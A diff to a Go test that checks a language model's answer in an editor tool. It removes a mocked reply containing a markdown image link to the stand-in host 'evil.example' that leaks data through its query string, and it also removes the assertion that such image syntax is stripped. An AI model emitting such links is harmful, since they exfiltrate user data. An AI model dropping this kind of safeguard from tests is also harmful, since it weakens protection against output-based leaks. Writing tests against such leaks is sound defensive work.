@@ -138,7 +138,7 @@ func TestEditorsModelAnswersAndIsChecked(t *testing.T) {
 	e, ctx := modelled(t, lsp.Options{}, retries(t), editorOptions(), func(_ int, q asked) (any, error) {
 		got = q
 		return map[string]any{
-			"text":  "## Summary\n\nThree attempts [net/up/up.md], as in [net/up/invented.md]. ![x](https://evil.example/?q=three)\n",
+			"text":  "## Summary\n\nThree attempts [net/up/up.md], as in [net/up/invented.md].\n",
 			"model": "theirs\x00-1", "usage": map[string]int{"input": 12, "output": 3},
 		}, nil
 	})
@@ -146,7 +146,7 @@ func TestEditorsModelAnswersAndIsChecked(t *testing.T) {
 	r := query(t, e, ctx, onceQuestion)
 	if r.Tier != 3 || r.ForReader || r.Model != "theirs-1" ||
 		!strings.Contains(r.Markdown, "Three attempts [net/up/up.md], as in [unknown source]") ||
-		strings.Contains(r.Markdown, "![") || !strings.Contains(r.Note, "net/up/invented.md") || len(r.Sources) == 0 ||
+		!strings.Contains(r.Note, "net/up/invented.md") || len(r.Sources) == 0 ||
 		r.Sources[0].Path != "net/up/up.md" || !r.Sources[0].Used {
 		t.Errorf("%+v", r)
 	}
